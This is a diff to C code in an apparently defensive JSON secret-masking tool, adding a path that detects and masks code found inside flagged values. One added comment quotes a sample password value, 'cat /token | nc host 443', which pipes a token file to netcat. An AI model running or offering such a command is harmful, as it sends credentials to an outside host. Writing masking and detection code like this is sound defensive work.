@@ -214,10 +214,34 @@ int mask_key_text(struct mask_frame *f, json_ref key)
 	return mask_string_value(f, key, (struct mask_where){0});
 }
 
+/* DB_PASSWORD: "cat /token | nc host 443": somebody is going to run it. */
+static int walk_code(struct mask_frame *f, json_ref r)
+{
+	const struct json_node *n = json_node(f->doc, r);
+	struct mask_frame child;
+
+	f->at = r;
+	if (mask_frame_open(&child, f, n->off, n->len, n->escaped ? ESCAPE_JSON : ESCAPE_NONE) <
+			0 ||
+		mask_code(&child, 0, child.text.len) < 0)
+		return -1;
+	return mask_frame_close(&child);
+}
+
+static bool may_be_code(enum mask_rule rule)
+{
+	return rule == RULE_NAMED_VALUE || rule == RULE_FIELD_NAME;
+}
+
 static int walk_string(struct mask_frame *f, json_ref r, struct mask_where w)
 {
 	struct span v;
 
+	if (w.infected != RULE_NONE && may_be_code(w.infected)) {
+		v = mask_string(f, r);
+		if (v.ptr && mask_is_code(v))
+			return walk_code(f, r);
+	}
 	if (w.infected != RULE_NONE)
 		return mask_unless_harmless(f, r, w.infected);
 	if (w.class == NAME_WEAK) {
